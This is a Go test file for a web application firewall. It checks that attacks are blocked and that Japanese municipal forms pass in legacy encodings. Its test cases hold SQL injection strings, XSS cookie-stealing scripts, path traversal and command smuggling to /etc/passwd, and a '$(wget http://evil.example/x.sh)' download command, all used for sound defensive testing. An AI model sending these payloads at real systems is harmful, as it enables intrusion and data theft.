package waf

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"mime/multipart"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/text/encoding/japanese"

	"github.com/sekikura/sekikura/policy"
	"github.com/sekikura/sekikura/tenant"
)

const (
	wakaba tenant.ID = "994413"
	hanami tenant.ID = "992011"
)

var visitor = netip.MustParseAddrPort("192.0.2.7:40000")

// The rule set is read once for all tests; each test has its own policies.
var shared = sync.OnceValues(func() (*Engine, error) {
	return New(Config{Log: slog.New(slog.DiscardHandler), Now: time.Now, Budget: time.Minute})
})

func engine(t testing.TB, bodies map[tenant.ID]string) *Engine {
	t.Helper()
	base, err := shared()
	if err != nil {
		t.Fatal(err)
	}
	table, err := policy.NewTable(Spec(time.Now))
	if err != nil {
		t.Fatal(err)
	}
	for id, body := range bodies {
		doc := &policy.Document{Service: "waf", Schema: 1, Version: 7, Body: json.RawMessage(body)}
		if problems := table.Set(id, nil, doc); problems != nil {
			t.Fatalf("policy of %s: %v", id, problems)
		}
	}
	c := base.Config
	c.Policies = table
	return &Engine{Config: c, metrics: newMetrics(), waf: base.waf, cutoff: base.cutoff, all: make(chan struct{}, 8), turns: make(map[tenant.ID]turns)}
}

func request(t testing.TB, method, target, contentType, body string) *http.Request {
	t.Helper()
	head := fmt.Sprintf("%s %s HTTP/1.1\r\nHost: www.vill.wakaba.example\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0)\r\nAccept: */*\r\n", method, target)
	if contentType != "" {
		head += fmt.Sprintf("Content-Type: %s\r\nContent-Length: %d\r\n", contentType, len(body))
	}
	r, err := http.ReadRequest(bufio.NewReader(strings.NewReader(head + "\r\n" + body)))
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func judge(t testing.TB, e *Engine, id tenant.ID, r *http.Request) *Inspection {
	t.Helper()
	body, err := io.ReadAll(r.Body)
	if err != nil {
		t.Fatal(err)
	}
	limit := e.Limit(id)
	whole := len(body) <= limit
	i := e.Inspect(t.Context(), id, visitor, r, body[:min(len(body), limit+1)], whole)
	t.Cleanup(i.Close)
	return i
}

func field(i *Inspection, name string) string {
	for _, f := range i.Fields() {
		if f.Key == name {
			return f.Value.String()
		}
	}
	return ""
}

const form = "application/x-www-form-urlencoded"

func TestAttacksAreBlockedWithTheirCategory(t *testing.T) {
	e := engine(t, nil)
	for _, tt := range []struct{ name, method, target, contentType, body, category string }{
		{"SQL injection in the query", "GET", "/?id=1%27%20OR%20%271%27=%271%27--%20-", "", "", "sqli"},
		{"SQL injection in a form", "POST", "/form", form, "name=" + url.QueryEscape("x' UNION SELECT password FROM users-- "), "sqli"},
		{"script in a form", "POST", "/form", form, "comment=" + url.QueryEscape("<script>alert(document.cookie)</script>"), "xss"},
		{"a file of the system", "GET", "/?page=../../../../etc/passwd", "", "", "lfi"},
		{"a command", "GET", "/?cmd=;cat%20/etc/passwd", "", "", "lfi"},
		{"a command in a form", "POST", "/form", form, "q=" + url.QueryEscape("$(wget http://evil.example/x.sh)"), "rce"},
		{"SQL injection in JSON", "POST", "/api", "application/json", `{"a":{"b":["x' UNION SELECT password FROM users-- "]}}`, "sqli"},
	} {
		i := judge(t, e, wakaba, request(t, tt.method, tt.target, tt.contentType, tt.body))
		if got := i.Outcome(); got != Blocked {
			t.Errorf("%s: outcome %s, want %s", tt.name, got, Blocked)
		}
		if got := field(i, "rule.category"); got != tt.category {
			t.Errorf("%s: category %q, want %q (%s)", tt.name, got, tt.category, field(i, "waf.matches"))
		}
		if field(i, "rule.id") == "" || field(i, "waf.matches") == "" {
			t.Errorf("%s: the event would not name the rule: %v", tt.name, i.Fields())
		}
	}
}

// An honest form of a municipality, in every encoding that its site may use.
var honest = url.Values{
	"name":    {"山田 太郎"},
	"address": {"さくら県若葉村大字表能1-2-3 ソ連坂"},
	"comment": {"ごみの収集日を教えてください。先週の水曜日に出したものが、まだ残っています。（至急）"},
}

func TestHonestJapaneseFormsPassInEveryEncoding(t *testing.T) {
	e := engine(t, map[tenant.ID]string{wakaba: `{"charsets":["shift_jis","euc-jp","iso-2022-jp"]}`})
	for _, tt := range []struct {
		charset, declared string
		encode            func(string) (string, error)
	}{
		{"", "", func(s string) (string, error) { return s, nil }},
		{"shift_jis", "", japanese.ShiftJIS.NewEncoder().String},
		{"shift_jis", "Shift_JIS", japanese.ShiftJIS.NewEncoder().String},
		{"euc-jp", "", japanese.EUCJP.NewEncoder().String},
		{"iso-2022-jp", "iso-2022-jp", japanese.ISO2022JP.NewEncoder().String},
	} {
		encoded := url.Values{}
		var multi bytes.Buffer
		w := multipart.NewWriter(&multi)
		for name, values := range honest {
			text, err := tt.encode(values[0])
			if err != nil {
				t.Fatal(err)
			}
			encoded.Set(name, text)
			if err := w.WriteField(name, text); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		contentType := form
		if tt.declared != "" {
			contentType += "; charset=" + tt.declared
		}
		for _, r := range []*http.Request{
			request(t, "POST", "/form", contentType, encoded.Encode()),
			request(t, "POST", "/form", w.FormDataContentType(), multi.String()),
			request(t, "GET", "/search?"+encoded.Encode(), "", ""),
		} {
			i := judge(t, e, wakaba, r)
			if got := i.Outcome(); got != Passed {
				t.Errorf("%s form (%s %s): outcome %s, want %s: %s", tt.charset, r.Method, r.Header.Get("Content-Type"), got, Passed, field(i, "waf.matches"))
			}
			if got := field(i, "waf.charset"); got != tt.charset {
				t.Errorf("%s form (%s %s) was read as %q", tt.charset, r.Method, r.Header.Get("Content-Type"), got)
			}
		}
	}
}

func TestAttacksInOldEncodingsAreBlocked(t *testing.T) {
	e := engine(t, nil)
	attack := "能力 ' UNION SELECT password FROM users-- "
	for name, encode := range map[string]func(string) (string, error){"shift_jis": japanese.ShiftJIS.NewEncoder().String, "euc-jp": japanese.EUCJP.NewEncoder().String} {
		text, err := encode(attack)
		if err != nil {
			t.Fatal(err)
		}
		i := judge(t, e, wakaba, request(t, "POST", "/form", form, "q="+url.QueryEscape(text)))
		if got := i.Outcome(); got != Blocked {
			t.Errorf("an attack in %s: outcome %s, want %s", name, got, Blocked)
		}
	}
	// Every byte between the escapes is ASCII: only a site that is known to use
	// ISO-2022-JP may have it read as Japanese.
	hidden := "\x1b$B<script>alert(document.cookie)</script>\x1b(B"
	i := judge(t, e, wakaba, request(t, "POST", "/form", form+"; charset=iso-2022-jp", "q="+url.QueryEscape(hidden)))
	if got := i.Outcome(); got != Blocked {
		t.Errorf("script between ISO-2022-JP escapes, on a site without it: outcome %s, want %s", got, Blocked)
	}
}

func TestPolicyOfOneBodyDoesNotTouchAnother(t *testing.T) {
	e := engine(t, map[tenant.ID]string{wakaba: `{"action":"detect"}`})
	attack := "/?id=1%27%20OR%20%271%27=%271%27--%20-"
	if got := judge(t, e, wakaba, request(t, "GET", attack, "", "")).Outcome(); got != Detected {
		t.Errorf("body that only detects: outcome %s, want %s", got, Detected)
	}
	if got := judge(t, e, hanami, request(t, "GET", attack, "", "")).Outcome(); got != Blocked {
		t.Errorf("other body: outcome %s, want %s", got, Blocked)
	}
}

func TestLeaksInResponsesAreBlockedWhereThePolicyAsks(t *testing.T) {
	leak := []byte("<html>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax</html>")
	page := []byte("<html><title>若葉村</title><p>ごみの収集日のお知らせ</p></html>")
	header := http.Header{"Content-Type": {"text/html; charset=utf-8"}}
	for _, tt := range []struct {
		name, policy string
		body         []byte
		outcome      string
	}{
		{"a leak", `{"response_inspection":true}`, leak, Blocked},
		{"a leak, only recorded", `{"response_inspection":true,"action":"detect"}`, leak, Detected},
		{"a page", `{"response_inspection":true}`, page, Passed},
		{"a leak that nobody looks for", `{}`, leak, Passed},
	} {
		e := engine(t, map[tenant.ID]string{wakaba: tt.policy})
		i := judge(t, e, wakaba, request(t, "GET", "/", "", ""))
		if i.ResponseLimit("text/html; charset=utf-8") > 0 {
			i.Response(t.Context(), 200, header, tt.body)
		}
		if got := i.Outcome(); got != tt.outcome {
			t.Errorf("%s: %s, want %s: %s", tt.name, got, tt.outcome, field(i, "waf.matches"))
		}
	}
}

func TestModeOfTheEnvelopeTurnsTheServiceOff(t *testing.T) {
	e := engine(t, nil)
	table, err := policy.NewTable(Spec(time.Now))
	if err != nil {
		t.Fatal(err)
	}
	e.Policies = table
	for mode, want := range map[policy.Mode]int{policy.Off: -1, policy.Other: -1, policy.Ours: 128 << 10} {
		if problems := table.Set(wakaba, nil, &policy.Document{Service: "waf", Schema: 1, Mode: mode}); problems != nil {
			t.Fatal(problems)
		}
		if got := e.Limit(wakaba); got != want {
			t.Errorf("mode %s: limit %d, want %d", mode, got, want)
		}
	}
}

// BenchmarkInspect is the CPU of one judgement alone.
func BenchmarkInspect(b *testing.B) {
	for _, tt := range []struct{ name, policy string }{
		{"level 1", `{}`}, {"level 1 and preview", `{"preview":true}`}, {"level 2", `{"paranoia":2}`}, {"level 4", `{"paranoia":4}`}, {"with response", `{"response_inspection":true}`},
	} {
		e := engine(b, map[tenant.ID]string{wakaba: tt.policy})
		body := []byte(honest.Encode())
		page := bytes.Repeat([]byte("<p>ごみの収集日のお知らせ</p>\n"), 500)
		for _, method := range []string{"GET", "POST"} {
			b.Run(tt.name+"/"+method, func(b *testing.B) {
				b.ReportAllocs()
				for b.Loop() {
					r := request(b, method, "/news/2026/list.html?page=2", "", "")
					var sent []byte
					if method == "POST" {
						r.Header.Set("Content-Type", form)
						r.ContentLength, sent = int64(len(body)), body
					}
					i := e.Inspect(b.Context(), wakaba, visitor, r, sent, true)
					if i.ResponseLimit("text/html") > 0 {
						i.Response(b.Context(), 200, http.Header{"Content-Type": {"text/html"}}, page)
					}
					if i.Outcome() != Passed && e.Policies.For(wakaba).Compiled.policy.Paranoia == 1 {
						b.Fatalf("%s: %v", i.Outcome(), i.Fields())
					}
					i.Close()
				}
			})
		}
	}
}
